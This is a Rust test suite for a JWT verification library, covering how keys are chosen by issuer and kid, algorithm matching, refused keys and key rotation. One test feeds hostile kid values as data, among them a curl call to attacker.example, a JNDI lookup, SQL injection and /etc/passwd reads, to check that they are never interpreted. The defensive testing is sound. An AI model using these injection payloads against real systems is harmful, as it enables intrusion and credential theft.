//! Which key verifies a token: the one with its issuer and `kid`, or one of a few keys if the token has no `kid`.

use edge_assay::jose::jwk::SetAsideReason;
use edge_assay::jose::signature::KeyError;
use edge_assay::jose::{Algorithm, base64url};
use edge_assay::rejection::{Fault, NoKey, Rejection, excerpt};
use serde_json::{Value, json};

use super::{ISS, token, world};
use crate::support::keys::{self, ed25519, ed25519_second, p_256, rsa_2048};
use crate::support::platform::Answer;
use crate::support::tokens;
use crate::support::world::{World, claims, issuer, jwks_uri};

/// A world whose issuer publishes these JWKs.
fn publishing(jwks: &[Value]) -> World {
    let world = World::trusting(&[issuer(ISS, &json!({}))]);
    world.serves(&jwks_uri(ISS), Answer::json(keys::jwks(jwks)));
    world
}

/// A token without a `kid`.
fn without_kid(algorithm: Algorithm) -> String {
    tokens::mint(algorithm, &json!({ "kid": null }), &claims(ISS, &json!({})))
}

fn with_kid(algorithm: Algorithm, kid: &str) -> String {
    tokens::mint(algorithm, &json!({ "kid": kid }), &claims(ISS, &json!({})))
}

/// The public JWK of an Ed25519 key that signs no token in these tests.
fn unused_key(seed: u8) -> Value {
    let key = ed25519_dalek::SigningKey::from_bytes(&[seed; 32]).verifying_key();
    json!({ "kty": "OKP", "crv": "Ed25519", "kid": format!("unused {seed}"), "x": base64url::encode(key.as_bytes()) })
}

#[test]
fn a_token_without_a_kid_tries_eight_keys_and_no_more() {
    for before in 0..=10_u8 {
        let mut set: Vec<Value> = (1..=before).map(unused_key).collect();
        set.push(ed25519().public_jwk());
        let world = publishing(&set);
        if before < 8 {
            let verified = world.outcome(&without_kid(Algorithm::EdDsa)).unwrap();
            assert_eq!(verified.key().kid.as_deref(), Some(ed25519().kid()), "the `kid` of the key");
        } else {
            let expected = Rejection::SignatureInvalid { kid: None };
            assert_eq!(world.rejection(&without_kid(Algorithm::EdDsa)), expected, "after {before} others");
        }
    }
}

#[test]
fn keys_of_another_algorithm_do_not_count_among_the_eight() {
    let mut set: Vec<Value> =
        (0..20).map(|index| p_256().public_jwk_with(&json!({ "kid": index.to_string() }))).collect();
    set.push(ed25519().public_jwk());
    assert!(publishing(&set).accepts(&without_kid(Algorithm::EdDsa)));
}

#[test]
fn a_key_without_a_kid_verifies_only_tokens_without_a_kid() {
    let world = publishing(&[ed25519().public_jwk_with(&json!({ "kid": null }))]);
    assert!(world.accepts(&without_kid(Algorithm::EdDsa)));
    assert_eq!(
        world.rejection(&token(&json!({}))),
        Rejection::KeyNotFound(NoKey::KeysWithoutKid { kid: ed25519().kid().to_owned(), known: 1 })
    );
    // If another key has a `kid`, the token's `kid` is unknown.
    let world = publishing(&[ed25519().public_jwk_with(&json!({ "kid": null })), unused_key(1)]);
    assert_eq!(
        world.rejection(&token(&json!({}))),
        Rejection::KeyNotFound(NoKey::UnknownKid {
            kid: ed25519().kid().to_owned(),
            known: 2,
            age_seconds: 0,
            next_fetch_seconds: 30
        })
    );
}

#[test]
fn a_token_without_a_kid_needs_a_key_of_its_algorithm() {
    let world = publishing(&[p_256().public_jwk(), rsa_2048().public_jwk()]);
    assert_eq!(
        world.rejection(&without_kid(Algorithm::EdDsa)),
        Rejection::KeyNotFound(NoKey::NoneForAlgorithm { algorithm: "EdDSA", known: 2 })
    );
}

#[test]
fn a_set_without_a_usable_key_is_a_fault_unless_the_issuer_has_secrets() {
    let weak = rsa_2048().public_jwk_with(&json!({ "kid": "weak", "n": base64url::encode(&[0xff; 128]) }));
    let enc = ed25519().public_jwk_with(&json!({ "use": "enc" }));
    let mut tokens_to_try = vec![without_kid(Algorithm::EdDsa), token(&json!({}))];
    tokens_to_try.push(with_kid(Algorithm::Rs256, "weak"));
    for token in tokens_to_try {
        for (set, words) in [
            (vec![], vec!["empty"]),
            (vec![enc.clone(), weak.clone()], vec!["enc", "1024", "weak", ed25519().kid()]),
        ] {
            let world = publishing(&set);
            let fault = world.fault(&token);
            let Fault::JwksInvalid { reason, .. } = &fault else { panic!("{fault:?}") };
            assert!(reason.starts_with("no usable key"), "{reason}");
            assert!(words.iter().all(|word| reason.contains(word)), "each key has its reason: {reason}");
            // The set is not cached: the next one is used as soon as the cooldown allows a fetch.
            world.publishes(ISS, &[ed25519(), p_256()]);
            world.platform.pass(2);
            assert!(world.accepts(&self::token(&json!({}))));
        }
    }

    let secrets = json!({ "secrets": [{ "binding": "S" }], "algorithms": ["HS256", "EdDSA"] });
    let config = json!({ "issuers": [issuer(ISS, &secrets)] });
    let world = World::with_secrets(&config, &[("S", keys::SECRET)]);
    world.serves(&jwks_uri(ISS), Answer::json(keys::jwks(&[])));
    assert_eq!(
        world.rejection(&without_kid(Algorithm::EdDsa)),
        Rejection::KeyNotFound(NoKey::NoneForAlgorithm { algorithm: "EdDSA", known: 0 })
    );
    assert!(world.accepts(&tokens::mint(Algorithm::Hs256, &json!({}), &claims(ISS, &json!({})))));
}

#[test]
fn a_kid_is_only_compared_and_never_interpreted() {
    let world = world(&json!({}));
    for kid in [
        "",
        "../../../../../../dev/null",
        "/dev/null",
        "file:///etc/passwd",
        "https://attacker.example/jwks.json",
        "x' UNION SELECT 'secret'; --",
        "$(curl attacker.example)",
        "| cat /etc/passwd",
        "${jndi:ldap://attacker.example}",
        "{{7*7}}",
        "a\r\nX-Injected: 1",
        "a\0b",
        "__proto__",
        "constructor",
        "0",
        "*",
        "\u{202e}dik",
    ]
    .into_iter()
    .map(str::to_owned)
    .chain([
        ed25519().kid().to_uppercase() + "x",
        format!("{} ", ed25519().kid()),
        format!("{}\0", ed25519().kid()),
        "k".repeat(8000),
    ]) {
        assert_eq!(
            world.rejection(&with_kid(Algorithm::EdDsa, &kid)),
            Rejection::KeyNotFound(NoKey::UnknownKid {
                kid: excerpt(&kid),
                known: 1,
                age_seconds: 0,
                next_fetch_seconds: 30
            }),
            "{kid:?}"
        );
    }
    let urls: Vec<String> = world.platform.origin.requests().into_iter().map(|request| request.url).collect();
    assert_eq!(urls, [jwks_uri(ISS)], "one fetch, from the configured URL");
    assert!(world.accepts(&token(&json!({}))), "and the known key still verifies");
}

#[test]
fn a_kid_that_is_not_a_string_is_malformed() {
    let world = world(&json!({}));
    for kid in [json!(1), json!(["a"]), json!({ "a": 1 }), json!(true)] {
        let minted = tokens::mint(Algorithm::EdDsa, &json!({ "kid": kid }), &claims(ISS, &json!({})));
        assert_eq!(world.rejection(&minted).code(), "token_malformed");
    }
}

#[test]
fn keys_of_two_issuers_with_the_same_kid_are_never_confused() {
    const OTHER: &str = "https://other.example";
    let world = World::trusting(&[issuer(ISS, &json!({})), issuer(OTHER, &json!({}))]);
    let same = json!({ "kid": "same" });
    world.serves(&jwks_uri(ISS), Answer::json(keys::jwks(&[ed25519().public_jwk_with(&same)])));
    world.serves(&jwks_uri(OTHER), Answer::json(keys::jwks(&[ed25519_second().public_jwk_with(&same)])));
    let minted = |key, name| tokens::mint_with_key(Algorithm::EdDsa, key, &same, &claims(name, &json!({})));
    let invalid = Rejection::SignatureInvalid { kid: Some("same".to_owned()) };
    assert_eq!(world.rejection(&minted(ed25519_second(), ISS)), invalid);
    assert_eq!(
        (world.fetches(ISS), world.fetches(OTHER)),
        (1, 0),
        "only the keys of the token's issuer are fetched"
    );
    // Both sets are in memory now.
    assert!(world.accepts(&minted(ed25519_second(), OTHER)));
    assert!(world.accepts(&minted(ed25519(), ISS)));
    assert_eq!(world.rejection(&minted(ed25519_second(), ISS)), invalid);
    assert_eq!(world.rejection(&minted(ed25519(), OTHER)), invalid);
    assert_eq!((world.fetches(ISS), world.fetches(OTHER)), (1, 1));
}

#[test]
fn a_kid_of_another_issuer_is_unknown() {
    const OTHER: &str = "https://other.example";
    let world = World::trusting(&[issuer(ISS, &json!({})), issuer(OTHER, &json!({}))]);
    world.publishes(ISS, &[ed25519()]);
    world.publishes(OTHER, &[ed25519_second()]);
    assert!(world.accepts(&tokens::mint_with_key(
        Algorithm::EdDsa,
        ed25519_second(),
        &json!({}),
        &claims(OTHER, &json!({}))
    )));
    let forged =
        tokens::mint_with_key(Algorithm::EdDsa, ed25519_second(), &json!({}), &claims(ISS, &json!({})));
    assert_eq!(
        world.rejection(&forged),
        Rejection::KeyNotFound(NoKey::UnknownKid {
            kid: ed25519_second().kid().to_owned(),
            known: 1,
            age_seconds: 0,
            next_fetch_seconds: 30
        })
    );
}

#[test]
fn each_of_two_keys_with_the_same_kid_is_tried() {
    let same = json!({ "kid": "same" });
    let world = publishing(&[
        ed25519_second().public_jwk_with(&same),
        ed25519().public_jwk_with(&same),
        unused_key(1),
    ]);
    for key in [ed25519(), ed25519_second()] {
        assert!(world.accepts(&tokens::mint_with_key(
            Algorithm::EdDsa,
            key,
            &same,
            &claims(ISS, &json!({}))
        )));
    }
    // If the keys have different types, the token's algorithm selects one.
    let mixed = publishing(&[p_256().public_jwk_with(&same), ed25519().public_jwk_with(&same)]);
    assert!(mixed.accepts(&with_kid(Algorithm::EdDsa, "same")));
    assert!(mixed.accepts(&with_kid(Algorithm::Es256, "same")));
    // If one of them is set aside, the other is used.
    let aside = ed25519_second().public_jwk_with(&json!({ "kid": "same", "use": "enc" }));
    assert!(
        publishing(&[aside, ed25519().public_jwk_with(&same)]).accepts(&with_kid(Algorithm::EdDsa, "same"))
    );
}

#[test]
fn a_key_verifies_only_algorithms_that_its_type_and_its_alg_allow() {
    let other = |kid: &str, algorithm| {
        Rejection::KeyNotFound(NoKey::OtherAlgorithm { kid: kid.to_owned(), algorithm })
    };
    let world = publishing(&[p_256().public_jwk(), rsa_2048().public_jwk_with(&json!({ "alg": "RS256" }))]);
    assert_eq!(world.rejection(&with_kid(Algorithm::EdDsa, p_256().kid())), other(p_256().kid(), "EdDSA"));
    assert_eq!(
        world.rejection(&with_kid(Algorithm::Ps256, rsa_2048().kid())),
        other(rsa_2048().kid(), "PS256"),
        "the key is for RS256"
    );
    assert!(world.accepts(&with_kid(Algorithm::Rs256, rsa_2048().kid())));
    assert_eq!(world.fetches(ISS), 1);
}

#[test]
fn a_token_of_a_key_that_was_set_aside_is_refused_with_the_reason() {
    let with = |key: &keys::TestKey, changes: Value| key.public_jwk_with(&changes);
    let rows = [
        (with(ed25519(), json!({ "use": "enc" })), SetAsideReason::NotForSignatures("enc".to_owned())),
        (with(ed25519(), json!({ "key_ops": ["sign"] })), SetAsideReason::NotForVerifying),
        (with(ed25519(), json!({ "alg": "RS256" })), SetAsideReason::IncompatibleAlgorithm(Algorithm::Rs256)),
        (with(ed25519(), json!({ "d": "AAAA" })), SetAsideReason::PrivateMember("d")),
        (with(ed25519(), json!({ "x": "AAAA" })), SetAsideReason::Malformed("x")),
        (with(ed25519(), json!({ "kty": "oct", "k": "c2VjcmV0" })), SetAsideReason::Symmetric),
        (with(rsa_2048(), json!({ "e": "Aw" })), SetAsideReason::Unusable(KeyError::BadExponent)),
        (with(rsa_2048(), json!({ "e": "AQAC" })), SetAsideReason::Unusable(KeyError::BadExponent)),
        (
            with(rsa_2048(), json!({ "n": base64url::encode(&[0xff; 128]) })),
            SetAsideReason::Unusable(KeyError::WeakRsa { bits: 1024 }),
        ),
    ];
    for (jwk, reason) in rows {
        let algorithm = if jwk["kty"] == "RSA" { Algorithm::Rs256 } else { Algorithm::EdDsa };
        let kid = jwk["kid"].as_str().unwrap().to_owned();
        // A usable key in the same set is still used.
        let world = publishing(&[jwk, p_256().public_jwk()]);
        let reason = reason.to_string();
        assert_eq!(
            world.rejection(&with_kid(algorithm, &kid)),
            Rejection::KeyUnusable { kid: Some(kid), reason }
        );
        assert!(world.accepts(&with_kid(Algorithm::Es256, p_256().kid())));
        assert_eq!(world.fetches(ISS), 1, "the set is not fetched again for a key that is set aside");
    }
}

#[test]
fn an_unknown_kid_reveals_a_rotation_at_once() {
    let world = world(&json!({}));
    assert!(world.accepts(&token(&json!({}))));
    world.publishes(ISS, &[ed25519(), ed25519_second()]);
    let new = tokens::mint_with_key(Algorithm::EdDsa, ed25519_second(), &json!({}), &claims(ISS, &json!({})));
    assert!(world.accepts(&new));
    assert!(world.accepts(&token(&json!({}))), "the old key is still published");
    assert_eq!(world.fetches(ISS), 2);
}
